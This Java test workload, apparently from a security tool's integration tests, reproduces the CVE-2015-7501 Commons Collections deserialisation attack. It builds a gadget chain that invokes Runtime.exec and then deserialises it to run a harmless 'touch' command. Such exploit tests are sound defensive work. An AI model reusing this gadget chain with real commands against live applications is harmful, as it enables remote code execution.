package org.doorward.itest.bundles.attack;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.ObjectInputStream;
import java.io.ObjectOutputStream;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.apache.commons.collections.Transformer;
import org.apache.commons.collections.functors.ChainedTransformer;
import org.apache.commons.collections.functors.ConstantTransformer;
import org.apache.commons.collections.functors.InvokerTransformer;
import org.apache.commons.collections.keyvalue.TiedMapEntry;
import org.apache.commons.collections.map.LazyMap;
import org.doorward.itest.bundles.Workload;

/** {@code work FILE}: an application that reads an object from outside, which makes the file by a process (CVE-2015-7501). */
public final class DeserialisationAttack extends Workload {
    @Override
    protected String work(List<String> arguments) throws Exception {
        byte[] fromOutside = payload(arguments.get(0));
        try (ObjectInputStream in = new ObjectInputStream(new ByteArrayInputStream(fromOutside))) {
            return in.readObject().getClass().getSimpleName();
        }
    }

    /** A map whose key computes its hash code by the chain below. The chain is put in last: it is not to run here. */
    private static byte[] payload(String file) throws Exception {
        Transformer[] chain = {
            new ConstantTransformer(1),
            new ConstantTransformer(1),
            new ConstantTransformer(1),
            new ConstantTransformer(1),
            new ConstantTransformer(1)
        };
        Map<?, ?> lazy = LazyMap.decorate(new HashMap<>(), new ChainedTransformer(chain));
        HashMap<Object, Object> map = new HashMap<>(Map.of(new TiedMapEntry(lazy, "key"), "value"));
        lazy.clear();
        chain[0] = new ConstantTransformer(Runtime.class);
        chain[1] = new InvokerTransformer(
                "getMethod", new Class<?>[] {String.class, Class[].class}, new Object[] {"getRuntime", new Class<?>[0]
                });
        chain[2] = new InvokerTransformer(
                "invoke", new Class<?>[] {Object.class, Object[].class}, new Object[] {null, new Object[0]});
        chain[3] = new InvokerTransformer(
                "exec", new Class<?>[] {String[].class}, new Object[] {new String[] {"touch", file}});
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ObjectOutputStream out = new ObjectOutputStream(bytes)) {
            out.writeObject(map);
        }
        return bytes.toByteArray();
    }
}
